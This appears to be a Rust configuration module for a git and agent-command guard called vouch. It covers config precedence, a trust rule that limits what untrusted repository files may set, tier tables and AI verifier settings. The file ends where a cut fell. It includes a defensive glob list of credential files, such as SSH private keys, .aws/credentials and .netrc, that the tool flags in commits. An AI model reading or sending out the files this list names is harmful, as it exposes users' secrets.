//! Configuration: types, parsing, precedence, validation and the trust rule
//! (SPEC section 3.2).
//!
//! PURE: this module parses text it is handed. Reading the files and the
//! trust store is `context.rs`'s job.
//!
//! # Precedence
//!
//! Highest first: flags > `VOUCH_*` environment > the repository's
//! `.vouch.toml` > the user's `config.toml` > built-in defaults.
//!
//! # One trust rule, for every door
//!
//! A repository's `.vouch.toml` is written by whoever committed it: a
//! stranger's cloned repository, or an agent with a shell. Until a person
//! runs `vouch trust` for its exact content, it may only make the guard
//! stricter. Whatever would lower the guard, run a program, send data or
//! write a file is ignored, and the run says so in one line naming every
//! ignored key and how to trust the file. Restating the value in force is
//! not lowering it and draws no line.
//!
//! A file that cannot be read or parsed, or holds an invalid value, is
//! ignored as a whole, with the error and its line, on every door alike:
//! a broken repository file leaves the user config and the defaults; a
//! broken user config leaves the defaults (and the repository file, under
//! the same trust rule). [`Config::broken`] holds the errors for
//! `vouch doctor`, which exits non-zero while there are any.
//!
//! What each setting may do, by who writes it ("any": any value; a direction:
//! only a value at least that strict; "no": ignored). The user config and a
//! trusted repository file may set any value (a repository never an API
//! key); the table's column is the untrusted repository file.
//! `tests::every_setting_has_a_decision` checks that every key the file
//! format accepts is listed here, and `tests::who_may_set_what` checks each
//! row.
//!
//! | setting | untrusted repository | why |
//! |---|---|---|
//! | `mode` | `enforce` only | `observe` turns every door off |
//! | `strict` | `true` only | `false` lets a hook with a missing binary allow |
//! | `verify_standard` | `true` only | more is verified |
//! | `log_all` | `true` only | more is recorded |
//! | `notify_command` | no | runs a program |
//! | `protected.branches`, `protected.release_tags` | added to the lower layers' lists | a list that replaces could drop `main` |
//! | `protected.remote_head` | `true` only | more is protected |
//! | `thresholds.mass_ref_changes` | lower only | fewer changes already count as mass |
//! | `tiers.*` | higher only | a lower tier is verified less |
//! | `on_unavailable.*` | stricter only (`allow` < `ask` < `block`) | `allow` lets an unverified operation through |
//! | `verifiers.*` | no | runs programs; turning one off or non-blocking lowers |
//! | `log.path` | no | writes where the file says; can hide the record |
//! | `log.max_bytes` | higher only | a smaller log keeps fewer records |
//! | `log.keep` | higher only | fewer generations keep fewer records |
//! | `ai.enabled` | `true` only | off means no verdict |
//! | `ai.order` | no | chooses who receives the operation's data |
//! | `ai.timeout_secs`, `ai.connect_timeout_secs` | no | shorter turns verdicts into "unavailable"; longer only delays |
//! | `ai.cache_secs` | lower only | a longer cache reuses an old verdict |
//! | `ai.max_output_tokens`, `ai.temperature` | no | a budget that cuts the verdict short makes it unreadable; the user's money |
//! | `providers.*` | no | endpoints, models and keys: where data is sent |
//! | `prices.*` | no | the user's cost figures |
//! | `commit.migrations`, `credentials`, `ci`, `infrastructure`, `manifests` | added to the lower layers' lists | more paths are watched |
//! | `commit.migration_exceptions`, `credential_exceptions`, `generated` | narrowed only (patterns already in force) | an exception is a path left unwatched |
//! | `commit.bulk_*`, `commit.large_*` | lower only | a lower threshold flags more |
//! | `commit.tiers.*` | higher only | as `tiers.*` |
//! | `[[rules]]` | any (added) | a rule only raises a command's tier |
//! | `agent.budget_secs` | no | shorter leaves high-tier commands unverified; longer passes the agent's own hook timeout, and the agent then goes ahead |
//!
//! # The environment
//!
//! `VOUCH_*` variables belong to whoever runs the command: the person, a
//! script, or an agent that writes them inline (the agent door judges an
//! inline `VOUCH_*` assignment as a bypass, SPEC 2.4). In the config, only
//! two raise the guard and neither can lower it: `VOUCH_VERIFY=1`
//! (`verify_standard`) and `VOUCH_STRICT=1` (`strict`); `0` leaves the files'
//! value. `VOUCH_LOG` (where the record is written) and `VOUCH_CONFIG`
//! (which user config is read, `context.rs`) can lower it, as the user's own
//! settings can: they stand in for the user, above the repository file, as
//! SPEC 3.2 orders. Outside the config, `VOUCH_SKIP` skips one operation's
//! verification with a logged reason, `VOUCH_HEADLESS` never prompts, and
//! `VOUCH_PRIMARY` names the proposer (so the judge comes from another
//! provider); `VOUCH_NESTED` counts only while the vouch it names is an
//! ancestor.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use std::sync::OnceLock;

use globset::{Glob, GlobBuilder, GlobSet, GlobSetBuilder};
use serde::Deserialize;

use crate::env::{Env, vars};
use crate::vocab::Tier;

/// Default protected branches (SPEC section 2).
pub const DEFAULT_PROTECTED: &[&str] = &[
    "main",
    "master",
    "trunk",
    "develop",
    "release/*",
    "production",
    "prod",
];

/// Default release tags: moving or deleting one is critical.
pub const DEFAULT_RELEASE_TAGS: &[&str] = &["v[0-9]*", "release-*", "release/*"];

/// Default verifier program timeout (SPEC section 4).
pub const DEFAULT_VERIFIER_TIMEOUT_SECS: u64 = 30;

/// Default size past which the audit log is rotated.
pub const DEFAULT_LOG_MAX_BYTES: u64 = 10 * 1024 * 1024;

/// Default number of rotated audit log generations kept.
pub const DEFAULT_LOG_KEEP: u32 = 10;

/// Whether decisions take effect.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Deserialize, serde::Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Mode {
    /// Decisions take effect.
    #[default]
    Enforce,
    /// Decisions are made and logged, but nothing is refused or asked: for trying vouch safely.
    Observe,
}

/// What to do when no verdict can be had, from the weakest to the strictest.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Deserialize, serde::Serialize)]
#[serde(rename_all = "lowercase")]
pub enum OnUnavailable {
    /// Allow, with a warning, and log the skip.
    Allow,
    /// Ask at a terminal; headless, allow with a warning.
    Ask,
    /// Refuse.
    Block,
}

/// The tier each rule of `classify.rs` gives.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TierTable {
    /// Non-fast-forward update of a protected branch.
    pub force_push_protected: Tier,
    /// Destroys remote commits never fetched here, or the lease would fail.
    pub force_push_unseen: Tier,
    /// Non-fast-forward update of another ref.
    pub force_push: Tier,
    /// Deletion of a protected branch.
    pub delete_protected: Tier,
    /// Deletion of another branch.
    pub delete_branch: Tier,
    /// A tag moved or deleted.
    pub tag_move: Tier,
    /// A release tag moved or deleted.
    pub release_tag_move: Tier,
    /// More destructive ref changes than `thresholds.mass_ref_changes`.
    pub mass_ref_changes: Tier,
    /// A fast-forward or new ref on a protected branch.
    pub push_protected: Tier,
    /// A local branch moved back and the changes left behind vanish.
    pub local_rewind: Tier,
    /// A local branch moved back; what it leaves is on another ref.
    pub local_rewind_reachable: Tier,
    /// A local branch rewritten and some changes appear nowhere else.
    pub local_rewrite: Tier,
    /// A local branch deleted with commits on no other ref.
    pub local_delete: Tier,
    /// A local tag moved or deleted.
    pub local_tag: Tier,
    /// The stash dropped or cleared.
    pub stash_drop: Tier,
}

impl Default for TierTable {
    fn default() -> Self {
        Self {
            force_push_protected: Tier::Critical,
            force_push_unseen: Tier::Critical,
            force_push: Tier::High,
            delete_protected: Tier::Critical,
            delete_branch: Tier::High,
            tag_move: Tier::High,
            release_tag_move: Tier::Critical,
            mass_ref_changes: Tier::Critical,
            push_protected: Tier::None,
            local_rewind: Tier::Critical,
            local_rewind_reachable: Tier::Standard,
            local_rewrite: Tier::High,
            local_delete: Tier::Critical,
            local_tag: Tier::High,
            stash_drop: Tier::High,
        }
    }
}

/// The policy half of the config: what `classify.rs` needs.
#[derive(Debug, Clone)]
pub struct Policy {
    /// Compiled protected-branch globs.
    pub protected: Globs,
    /// The same globs as written, index for index.
    pub protected_patterns: Vec<String>,
    /// Protect the remote's default branch (`refs/remotes/<r>/HEAD`).
    pub remote_head: bool,
    /// Compiled release-tag globs.
    pub release_tags: Globs,
    /// Release-tag globs as written.
    pub release_tag_patterns: Vec<String>,
    /// More destructive ref changes than this in one push is `mass_ref_changes`.
    pub mass_ref_changes: usize,
    /// The tier of each rule.
    pub tiers: TierTable,
}

/// The pre-commit rules (SPEC 2.3): which paths each rule watches, the
/// thresholds, and the tier of each rule.
#[derive(Debug, Clone)]
pub struct CommitRules {
    /// Migration files, whose added SQL is read.
    pub migrations: Globs,
    /// Migrations that are meant to drop (down migrations).
    pub migration_exceptions: Globs,
    /// Lockfiles and generated files, left out of the deletion and size counts.
    pub generated: Globs,
    /// Credential files.
    pub credentials: Globs,
    /// Paths that look like credentials but are not (`.env.example`).
    pub credential_exceptions: Globs,
    /// CI/CD pipeline configuration.
    pub ci: Globs,
    /// Infrastructure as code.
    pub infrastructure: Globs,
    /// Dependency manifests, whose version changes are read.
    pub manifests: Globs,
    /// More deleted files than this is a bulk deletion.
    pub bulk_deleted_files: usize,
    /// More deleted lines than this is a bulk deletion.
    pub bulk_deleted_lines: usize,
    /// More files than this is a large change.
    pub large_files: usize,
    /// More changed lines than this is a large change.
    pub large_lines: usize,
    /// The tier of each rule, by name.
    pub tiers: BTreeMap<&'static str, Tier>,
}

/// Default globs of the pre-commit rules, by setting name.
pub const COMMIT_GLOBS: &[(&str, &[&str])] = &[
    (
        "migrations",
        &["**/migrations/**", "**/migrate/**", "**/*migration*.sql"],
    ),
    // Down migrations are meant to drop what the up migration made.
    (
        "migration_exceptions",
        &[
            "**/*.down.sql",
            "**/*_down.sql",
            "**/down.sql",
            "**/*.down.*",
        ],
    ),
    // Lockfiles and generated files: their churn is no deletion by a person.
    (
        "generated",
        &[
            "**/Cargo.lock",
            "**/package-lock.json",
            "**/yarn.lock",
            "**/pnpm-lock.yaml",
            "**/poetry.lock",
            "**/Gemfile.lock",
            "**/go.sum",
            "**/composer.lock",
            "**/uv.lock",
        ],
    ),
    (
        "credentials",
        &[
            "**/.env",
            "**/.env.*",
            "**/*.pem",
            "**/*.key",
            "**/id_rsa",
            "**/id_dsa",
            "**/id_ecdsa",
            "**/id_ed25519",
            "**/*.p12",
            "**/*.pfx",
            "**/.aws/credentials",
            "**/credentials.json",
            "**/service-account*.json",
            "**/.netrc",
            "**/.pypirc",
            "**/*.keystore",
            "**/*.jks",
        ],
    ),
    (
        "credential_exceptions",
        &[
            "**/.env.example",
            "**/.env.sample",
            "**/.env.template",
            "**/.env.dist",
        ],
    ),
    (
        "ci",
        &[
            "**/.github/workflows/**",
            "**/.github/actions/**",
            "**/.gitlab-ci.yml",
            "**/Jenkinsfile",
            "**/.circleci/**",
            "**/azure-pipelines.yml",
            "**/.travis.yml",
            "**/bitbucket-pipelines.yml",
            "**/.buildkite/**",
            "**/.drone.yml",
        ],
    ),
    (
        "infrastructure",
        &[
            "**/*.tf",
            "**/*.tfvars",
            "**/Pulumi.*",
            "**/Chart.yaml",
            "**/charts/*/templates/**",
            "**/charts/*/values*.yaml",
            "**/helm/**",
            "**/k8s/**",
            "**/kubernetes/**",
            "**/kustomization.yaml",
        ],
    ),
    (
        "manifests",
        &[
            "**/Cargo.toml",
            "**/package.json",
            "**/pyproject.toml",
            "**/go.mod",
            "**/requirements*.txt",
            "**/Gemfile",
        ],
    ),
];

/// Default tiers of the pre-commit rules.
pub const COMMIT_TIERS: &[(&str, Tier)] = &[
    ("destructive_sql", Tier::Critical),
    ("credential_file", Tier::Critical),
    ("bulk_deletion", Tier::High),
    ("ci_config", Tier::High),
    ("infrastructure", Tier::High),
    ("dependency_major_bump", Tier::High),
    ("large_change", Tier::Standard),
];

fn default_globs(name: &str) -> Globs {
    let patterns = COMMIT_GLOBS
        .iter()
        .find(|(n, _)| *n == name)
        .map(|(_, p)| strings(p))
        .unwrap_or_default();
    Globs::built_in(&patterns)
}

impl Default for CommitRules {
    fn default() -> Self {
        Self {
            migrations: default_globs("migrations"),
            migration_exceptions: default_globs("migration_exceptions"),
            generated: default_globs("generated"),
            credentials: default_globs("credentials"),
            credential_exceptions: default_globs("credential_exceptions"),
            ci: default_globs("ci"),
            infrastructure: default_globs("infrastructure"),
            manifests: default_globs("manifests"),
            bulk_deleted_files: 10,
            bulk_deleted_lines: 500,
            large_files: 10,
            large_lines: 500,
            tiers: COMMIT_TIERS.iter().copied().collect(),
        }
    }
}

impl CommitRules {
    /// The tier of rule `name`.
    pub fn tier(&self, name: &str) -> Tier {
        self.tiers.get(name).copied().unwrap_or(Tier::High)
    }
}

/// What to do when verification is unavailable, per tier.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct OnUnavailableTable {
    /// Critical operations (default: ask).
    pub critical: OnUnavailable,
    /// High operations (default: allow).
    pub high: OnUnavailable,
    /// Standard operations (default: allow).
    pub standard: OnUnavailable,
}

impl OnUnavailableTable {
    /// The setting for `tier`.
    pub fn for_tier(&self, tier: Tier) -> OnUnavailable {
        match tier {
            Tier::Critical => self.critical,
            Tier::High => self.high,
            Tier::Standard | Tier::None => self.standard,
        }
    }
}

/// One configured verifier program.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct VerifierConfig {
    /// The command, split like a shell; `None` to configure a program found by name.
    pub command: Option<Vec<String>>,
    /// A failing result blocks (default true).
    pub blocking: bool,
    /// Seconds before the program is killed and counted as an error.
    pub timeout_secs: u64,
    /// The tiers that run it; `None`: every verified tier.
    pub tiers: Option<Vec<Tier>>,
    /// Off: never run.
    pub enabled: bool,
    /// The file that configured it.
    pub source: String,
}

/// The AI verifier's settings (`[ai]`).
#[derive(Debug, Clone, PartialEq)]
pub struct AiConfig {
    /// Ask an AI verifier at all.
    pub enabled: bool,
    /// Providers to prefer when the proposer is unknown.
    pub order: Vec<String>,
    /// Whole-request timeout.
    pub timeout_secs: u64,
    /// Connect timeout.
    pub connect_timeout_secs: u64,
    /// How long a verdict is reused for the same operation.
    pub cache_secs: u64,
    /// Output budget (reasoning models need room).
    pub max_output_tokens: u32,
    /// Sent only when set: many models reject it.
    pub temperature: Option<f32>,
    /// The proposer, from a `--primary` flag (above `VOUCH_PRIMARY`).
    pub primary: Option<String>,
}

impl Default for AiConfig {
    fn default() -> Self {
        Self {
            enabled: true,
            order: vec!["anthropic".into(), "google".into(), "openai".into()],
            timeout_secs: 20,
            connect_timeout_secs: 5,
            cache_secs: 600,
            max_output_tokens: 1024,
            temperature: None,
            primary: None,
        }
    }
}

/// One `[providers.NAME]` table as written; unset fields keep the built-in
/// provider's values.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct ProviderConfig {
    /// Wire format.
    pub kind: Option<crate::provider::Kind>,
    /// Whose model it serves (OpenAI-compatible servers).
    pub family: Option<String>,
    /// Model.
    pub model: Option<String>,
    /// The tiebreaker model.
    pub strong_model: Option<String>,
    /// Base URL.
    pub base_url: Option<String>,
    /// The variable holding the key.
    pub api_key_env: Option<String>,
    /// A key written in the user config (never from a repository file).
    pub api_key: Option<crate::provider::Secret>,
}

/// Price of a model, USD per million tokens.
#[derive(Debug, Clone, Copy, PartialEq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Price {
    /// Input tokens.
    pub input_per_mtok: f64,
    /// Output tokens.
    pub output_per_mtok: f64,
}

/// Prices of the default models (`research/providers.md` section 3; check
/// live pricing: these are estimates for the audit log, not bills).
pub fn default_prices() -> BTreeMap<String, Price> {
    [
        ("claude-haiku-4-5", 1.0, 5.0),
        ("claude-sonnet-4-5", 3.0, 15.0),
        ("gpt-4.1-mini", 0.4, 1.6),
        ("gpt-5", 1.25, 10.0),
        ("gemini-2.5-flash", 0.3, 2.5),
        ("gemini-2.5-pro", 1.25, 10.0),
    ]
    .into_iter()
    .map(|(m, i, o)| {
        (
            m.to_owned(),
            Price {
                input_per_mtok: i,
                output_per_mtok: o,
            },
        )
    })
    .collect()
}

/// The configuration in force.
#[derive(Debug, Clone)]
pub struct Config {
    /// A hook whose binary is missing refuses, baked into hooks at install time.
    pub strict: bool,
    /// `enforce` (the default) or `observe`: decide and log, never block or ask.
    pub mode: Mode,
    /// Verify standard-tier operations too.
    pub verify_standard: bool,
    /// Write an audit line for tier-none operations too.
    pub log_all: bool,
    /// Runs when a review request is written (split like a shell).
    pub notify_command: Option<Vec<String>>,
    /// What the classifier needs.
    pub policy: Policy,
    /// What to do without a verdict.
    pub on_unavailable: OnUnavailableTable,
    /// Configured verifier programs by name.
    pub verifiers: BTreeMap<String, VerifierConfig>,
    /// The audit log path, if configured.
    pub log_path: Option<PathBuf>,
    /// Rotate the audit log past this size.
    pub log_max_bytes: u64,
    /// Rotated generations of the audit log kept (`audit.jsonl.1` ..).
    /// An untrusted repository file may raise it, never lower it.
    pub log_keep: u32,
    /// What every run says about the config, one line each: the keys an
    /// untrusted repository file could not set, a file that was ignored.
    pub warnings: Vec<String>,
    /// Files ignored because they cannot be used (unreadable, unparsable,
    /// an invalid value), with the error.
    pub broken: Vec<ConfigError>,
    /// The AI verifier.
    pub ai: AiConfig,
    /// `[providers.NAME]` tables.
    pub providers: BTreeMap<String, ProviderConfig>,
    /// Model prices for the audit log's cost estimate.
    pub prices: BTreeMap<String, Price>,
    /// The pre-commit rules.
    pub commit: CommitRules,
    /// User rules for shell commands (`[[rules]]`), added to the built-in ones.
    pub rules: Vec<crate::shell::RuleSpec>,
    /// `[agent] budget_secs`: how long an agent's command may wait for a verdict.
    pub agent_budget_secs: u64,
}

/// A set of globs. The built-in sets are compiled the first time something
/// is matched against them: most hook runs never match a path or a ref, and
/// compiling every set costs more than the rest of such a run. Globs from a
/// config file are compiled when read, so that an error names the file.
#[derive(Debug, Clone)]
pub struct Globs {
    globs: Vec<Glob>,
    set: OnceLock<GlobSet>,
}

impl Globs {
    /// A built-in set (valid: tested), compiled on first use.
    fn built_in(patterns: &[String]) -> Self {
        Self {
            globs: patterns
                .iter()
                .map(|p| glob(p).expect("the built-in globs are valid (tested)"))
                .collect(),
            set: OnceLock::new(),
        }
    }

    fn set(&self) -> &GlobSet {
        self.set.get_or_init(|| {
            let mut builder = GlobSetBuilder::new();
            for g in &self.globs {
                builder.add(g.clone());
            }
            builder.build().unwrap_or_else(|_| GlobSet::empty())
        })
    }

    /// True when a glob matches `path`.
    pub fn is_match(&self, path: impl AsRef<Path>) -> bool {
        self.set().is_match(path)
    }

    /// The globs as written.
    pub fn patterns(&self) -> Vec<String> {
        self.globs.iter().map(|g| g.glob().to_owned()).collect()
    }

    /// The indexes of the globs that match `path`.
    pub fn matches(&self, path: impl AsRef<Path>) -> Vec<usize> {
        self.set().matches(path)
    }
}

fn glob(pattern: &str) -> Result<Glob, globset::Error> {
    GlobBuilder::new(pattern).literal_separator(true).build()
}

/// Compiles globs from a config file now; an error gives the index of the bad one.
fn compile_globs(patterns: &[String]) -> Result<Globs, (usize, String)> {
    let mut builder = GlobSetBuilder::new();
    let mut globs = Vec::new();
    for (i, p) in patterns.iter().enumerate() {
        let g = glob(p).map_err(|e| (i, e.kind().to_string()))?;
        builder.add(g.clone());
        globs.push(g);
    }
    let set = builder.build().map_err(|e| (0, e.to_string()))?;
    Ok(Globs {
        globs,
        set: OnceLock::from(set),
    })
}

fn strings(list: &[&str]) -> Vec<String> {
    list.iter().map(|s| (*s).to_owned()).collect()
}

impl Default for Policy {
    fn default() -> Self {
        let protected_patterns = strings(DEFAULT_PROTECTED);
        let release_tag_patterns = strings(DEFAULT_RELEASE_TAGS);
        Self {
            protected: Globs::built_in(&protected_patterns),
            protected_patterns,
            remote_head: true,
            release_tags: Globs::built_in(&release_tag_patterns),
            release_tag_patterns,
            mass_ref_changes: 5,
            tiers: TierTable::default(),
        }
    }
}

impl Default for Config {
    fn default() -> Self {
        Self {
            strict: false,
            mode: Mode::Enforce,
            verify_standard: false,
            log_all: false,
            notify_command: None,
            policy: Policy::default(),
            on_unavailable: OnUnavailableTable {
                critical: OnUnavailable::Ask,
                high: OnUnavailable::Allow,
                standard: OnUnavailable::Allow,
            },
            verifiers: BTreeMap::new(),
            log_path: None,
            log_max_bytes: DEFAULT_LOG_MAX_BYTES,
            log_keep: DEFAULT_LOG_KEEP,
            warnings: Vec::new(),
            broken: Vec::new(),
            ai: AiConfig::default(),
            providers: BTreeMap::new(),
            prices: default_prices(),
            commit: CommitRules::default(),
            rules: Vec::new(),
            agent_budget_secs: DEFAULT_AGENT_BUDGET_SECS,
        }
    }
}

/// How long an agent's command may wait for a verdict, by default: below
/// the 30 s hook timeout vouch writes into the agents' settings.
pub const DEFAULT_AGENT_BUDGET_SECS: u64 = 20;

// ----------------------------------------------------------------------------
// The file format. Every table denies unknown keys.

#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
struct RawConfig {
    strict: Option<bool>,
    mode: Option<Mode>,
    verify_standard: Option<bool>,
    log_all: Option<bool>,
    notify_command: Option<String>,
    protected: Option<RawProtected>,
    thresholds: Option<RawThresholds>,
    tiers: Option<RawTiers>,
    on_unavailable: Option<RawOnUnavailable>,
    verifiers: Option<BTreeMap<String, RawVerifier>>,
    log: Option<RawLog>,
    ai: Option<RawAi>,
    providers: Option<BTreeMap<String, RawProvider>>,
    prices: Option<BTreeMap<String, Price>>,
    commit: Option<RawCommit>,
    rules: Option<Vec<crate::shell::RuleSpec>>,
    agent: Option<RawAgent>,
}

#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
struct RawAgent {
    budget_secs: Option<u64>,
}

#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
struct RawCommit {
    migrations: Option<Vec<String>>,
    migration_exceptions: Option<Vec<String>>,
    generated: Option<Vec<String>>,
    credentials: Option<Vec<String>>,
    credential_exceptions: Option<Vec<String>>,
    ci: Option<Vec<String>>,
    infrastructure: Option<Vec<String>>,
    manifests: Option<Vec<String>>,
    bulk_deleted_files: Option<usize>,
    bulk_deleted_lines: Option<usize>,
    large_files: Option<usize>,
    large_lines: Option<usize>,
    tiers: Option<RawCommitTiers>,
}

#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
struct RawCommitTiers {
    destructive_sql: Option<Tier>,
    credential_file: Option<Tier>,
    bulk_deletion: Option<Tier>,
    ci_config: Option<Tier>,
    infrastructure: Option<Tier>,
    dependency_major_bump: Option<Tier>,
    large_change: Option<Tier>,
}

#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
struct RawAi {
    enabled: Option<bool>,
    order: Option<Vec<String>>,
    timeout_secs: Option<u64>,
    connect_timeout_secs: Option<u64>,
    cache_secs: Option<u64>,
    max_output_tokens: Option<u32>,
    temperature: Option<f32>,
}

#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
struct RawProvider {
    kind: Option<crate::provider::Kind>,
    family: Option<String>,
    model: Option<String>,
    strong_model: Option<String>,
    base_url: Option<String>,
    api_key_env: Option<String>,
    api_key: Option<String>,
}

#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
struct RawProtected {
    branches: Option<Vec<String>>,
    remote_head: Option<bool>,
    release_tags: Option<Vec<String>>,
}

#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
struct RawThresholds {
    mass_ref_changes: Option<usize>,
}

#[derive(Debug, Default, Clone, Copy, Deserialize)]
#[serde(deny_unknown_fields)]
struct RawTiers {
    force_push_protected: Option<Tier>,
    force_push_unseen: Option<Tier>,
    force_push: Option<Tier>,
    delete_protected: Option<Tier>,
    delete_branch: Option<Tier>,
    tag_move: Option<Tier>,
    release_tag_move: Option<Tier>,
    mass_ref_changes: Option<Tier>,
    push_protected: Option<Tier>,
    local_rewind: Option<Tier>,
    local_rewind_reachable: Option<Tier>,
    local_rewrite: Option<Tier>,
    local_delete: Option<Tier>,
    local_tag: Option<Tier>,
    stash_drop: Option<Tier>,
}

#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
struct RawOnUnavailable {
    critical: Option<OnUnavailable>,
    high: Option<OnUnavailable>,
    standard: Option<OnUnavailable>,
}

#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
struct RawVerifier {
    command: Option<String>,
    blocking: Option<bool>,
    timeout_secs: Option<u64>,
    tiers: Option<Vec<Tier>>,
    enabled: Option<bool>,
}

#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
struct RawLog {
    path: Option<PathBuf>,
    max_bytes: Option<u64>,
    keep: Option<u32>,
}

/// A config file that could not be used.
#[derive(Debug, Clone, thiserror::Error)]
pub enum ConfigError {
    /// The file exists but cannot be read.
    #[error("cannot read config `{path}`: {message}")]
    Unreadable {
        /// The file.
        path: PathBuf,
        /// The system's reason.
        message: String,
    },
    /// The file is not valid, with where and what is accepted.
    #[error("invalid config `{path}`, line {line}{key}: {message}", key = key.as_ref().map(|k| format!(", key `{k}`")).unwrap_or_default())]
    Invalid {
        /// The file.
        path: PathBuf,
        /// 1-based line.
        line: usize,
        /// The key at fault, when known.
        key: Option<String>,
        /// What is wrong and what is accepted.
        message: String,
    },
}

/// A config file's text and where it came from.
#[derive(Debug, Clone)]
pub struct ConfigFile {
    /// The file.
    pub path: PathBuf,
    /// Its content.
    pub text: String,
}

impl ConfigError {
    /// The file at fault.
    pub fn path(&self) -> &Path {
        match self {
            Self::Unreadable { path, .. } | Self::Invalid { path, .. } => path,
        }
    }
}

/// Who wrote a config file, which decides what it may set (SPEC 3.2).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Source {
    /// The user's own config: anything.
    User,
    /// A repository file the user trusted with `vouch trust`: anything but API keys.
    TrustedRepo,
    /// A repository file not trusted: only what makes the guard stricter.
    UntrustedRepo,
}

/// The inputs of [`Config::resolve`].
#[derive(Debug, Clone, Default)]
pub struct ConfigInputs {
    /// The user's config file, if it exists.
    pub user: Option<ConfigFile>,
    /// The repository's `.vouch.toml`, if it exists, and whether it is trusted.
    pub repo: Option<(ConfigFile, bool)>,
}

fn line_of(text: &str, offset: usize) -> usize {
    text[..offset.min(text.len())].matches('\n').count() + 1
}

/// The key written on a line (`key = value`), if any.
fn key_on_line(text: &str, line: usize) -> Option<String> {
    let l = text.lines().nth(line.checked_sub(1)?)?;
    let (key, _) = l.split_once('=')?;
    let key = key.trim().trim_matches('"');
    (!key.is_empty() && !key.starts_with('[')).then(|| key.to_owned())
}

/// Finds the line where `key` is set inside `[table]` (`table` may be dotted).
fn locate(text: &str, table: &str, key: &str) -> usize {
    let mut in_table = table.is_empty();
    for (i, l) in text.lines().enumerate() {
        let t = l.trim();
        if t.starts_with('[') {
            let name = t.trim_matches(|c| c == '[' || c == ']').trim();
            in_table = name == table;
            continue;
        }
        if in_table
            && t.split_once('=')
                .is_some_and(|(k, _)| k.trim().trim_matches('"') == key)
        {
            return i + 1;
        }
    }
    1
}

fn parse_raw(file: &ConfigFile) -> Result<RawConfig, ConfigError> {
    toml::from_str::<RawConfig>(&file.text).map_err(|e| {
        let line = e.span().map_or(1, |s| line_of(&file.text, s.start));
        let key = key_on_line(&file.text, line);
        let mut message = e.message().trim().to_owned();
        if message.starts_with("unknown field") {
            message = message.replacen("unknown field", "unknown key", 1);
            message = message.replace(", expected one of", "; accepted keys:");
            message = message.replace(", expected", "; accepted:");
        }
        if message.contains("unknown variant") {
            message = message.replace(", expected one of", "; accepted values:");
        }
        ConfigError::Invalid {
            path: file.path.clone(),
            line,
            key,
            message,
        }
    })
}

fn tier_layer(into: &mut TierTable, raw: RawTiers, gate: &mut Gate) {
    let RawTiers {
        force_push_protected,
        force_push_unseen,
        force_push,
        delete_protected,
        delete_branch,
        tag_move,
        release_tag_move,
        mass_ref_changes,
        push_protected,
        local_rewind,
        local_rewind_reachable,
        local_rewrite,
        local_delete,
        local_tag,
        stash_drop,
    } = raw;
    let pairs = [
        (
            "force_push_protected",
            &mut into.force_push_protected,
            force_push_protected,
        ),
        (
            "force_push_unseen",
            &mut into.force_push_unseen,
            force_push_unseen,
        ),
        ("force_push", &mut into.force_push, force_push),
        (
            "delete_protected",
            &mut into.delete_protected,
            delete_protected,
        ),
        ("delete_branch", &mut into.delete_branch, delete_branch),
        ("tag_move", &mut into.tag_move, tag_move),
        (
            "release_tag_move",
            &mut into.release_tag_move,
            release_tag_move,
        ),
        (
            "mass_ref_changes",
            &mut into.mass_ref_changes,
            mass_ref_changes,
        ),
        ("push_protected", &mut into.push_protected, push_protected),
        ("local_rewind", &mut into.local_rewind, local_rewind),
        (
            "local_rewind_reachable",
            &mut into.local_rewind_reachable,
            local_rewind_reachable,
        ),
        ("local_rewrite", &mut into.local_rewrite, local_rewrite),
        ("local_delete", &mut into.local_delete, local_delete),
        ("local_tag", &mut into.local_tag, local_tag),
        ("stash_drop", &mut into.stash_drop, stash_drop),
    ];
    for (key, slot, value) in pairs {
        if let Some(v) = value
            && gate.allows(&format!("tiers.{key}"), v, v >= *slot)
        {
            *slot = v;
        }
    }
}

/// The keys an untrusted file could not set, for the one line that says so.
struct Gate {
    /// Everything may be set (the user config, a trusted repository file).
    trusted: bool,
    /// What was ignored, as `key = value` or `[table]`.
    ignored: Vec<String>,
}

impl Gate {
    /// True when the value may be applied: the file is trusted, or the
    /// value is at least as strict as the one in force (`stricter`).
    /// Otherwise the key is noted as ignored.
    fn allows(&mut self, key: &str, value: impl serde::Serialize, stricter: bool) -> bool {
        if self.trusted || stricter {
            return true;
        }
        let shown = serde_json::to_string(&value).unwrap_or_default();
        self.ignored.push(format!("`{key} = {shown}`"));
        false
    }

    /// A table or key an untrusted file may not set at all.
    fn only_trusted(&mut self, what: &str) -> bool {
        if !self.trusted {
            self.ignored.push(format!("`{what}`"));
        }
        self.trusted
    }

    /// A list of watched patterns: an untrusted file adds to the patterns
    /// in force and never removes one.
    fn watched(&mut self, key: &str, current: Vec<String>, new: Vec<String>) -> Vec<String> {
        if self.trusted {
            return new;
        }
        if current.iter().any(|p| !new.contains(p)) {
            self.ignored.push(format!(
                "`{key}` as a replacement (its patterns were added to those in force)"
            ));
        }
        let mut all = current;
        for p in new {
            if !all.contains(&p) {
                all.push(p);
            }
        }
        all
    }

    /// A list of exceptions: an untrusted file may only drop some of the
    /// patterns in force, never add one.
    fn exceptions(&mut self, key: &str, current: &[String], new: Vec<String>) -> Vec<String> {
        if self.trusted {
            return new;
        }
        let (kept, added): (Vec<String>, Vec<String>) =
            new.into_iter().partition(|p| current.contains(p));
